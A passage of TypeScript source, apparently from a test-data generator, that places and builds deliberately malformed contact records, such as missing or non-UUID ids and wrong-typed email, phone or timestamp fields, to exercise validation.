  return Object.fromEntries(Object.entries(record).filter(([, value]) => value !== undefined));
}

/** After a specimen renamed a contact, its generated email follows the new name when that has an ASCII form. */
function matchEmailToName(contact: RawContact, before: RawContact): void {
  const renamed = contact.first_name !== before.first_name || contact.last_name !== before.last_name;
  if (!renamed || contact.email !== before.email || typeof contact.email !== 'string') return;
  const first = typeof contact.first_name === 'string' ? asciiOf(contact.first_name) : '';
  const last = typeof contact.last_name === 'string' ? asciiOf(contact.last_name) : '';
  const at = contact.email.indexOf('@');
  if (first && last && at > 0) contact.email = `${first}.${last}${contact.email.slice(at)}`;
}

/**
 * Evenly spread positions for the broken or bent contacts (shifted by `offset` of a stride so that the two sets
 * differ), avoiding the reserved ones while there is room, with their kinds cycled.
 */
function placeSpecial<K extends string>(
  count: number,
  total: number,
  reserved: readonly number[],
  kinds: readonly K[],
  offset = 0.5,
): { index: number; kind: K }[] {
  const taken = new Set(count <= total - reserved.length ? reserved : []);
  const placed: { index: number; kind: K }[] = [];
  for (let k = 0; k < count; k++) {
    let index = Math.floor(((k + offset) * total) / count);
    while (taken.has(index)) index = (index + 1) % total;
    taken.add(index);
    placed.push({ index, kind: kinds[k % kinds.length] as K });
  }
  return placed.sort((a, b) => a.index - b.index);
}

function breakContact(contact: RawContact, kind: InvalidContactKind): void {
  switch (kind) {
    case 'missing id':
      delete contact.id;
      break;
    case 'customer_id is not a UUID':
      contact.customer_id = 'CUST-000123';
      break;
    case 'id is not a UUID':
      contact.id = '12345';
      break;
    case 'missing customer_id':
      delete contact.customer_id;
      break;
  }
}

function bendContact(contact: RawContact, kind: BentContactKind): void {
  switch (kind) {
    case 'role is a string':
      contact.role = 'decision_maker';
      break;
    case 'email is a number':
      contact.email = 33612345678;
      break;
    case 'created_at is not a timestamp':
      contact.created_at = '31/12/2023 14:00';
      break;
    case 'no name and no email':
      Object.assign(contact, { first_name: null, last_name: '  ', email: null });
      break;
    case 'address_ids holds a non-UUID':
      contact.address_ids = ['addr-1'];
      break;
    case 'phone is an object':
      contact.phone = { number: '+33 6 12 34 56 78', type: 'mobile' };
      break;
  }
}
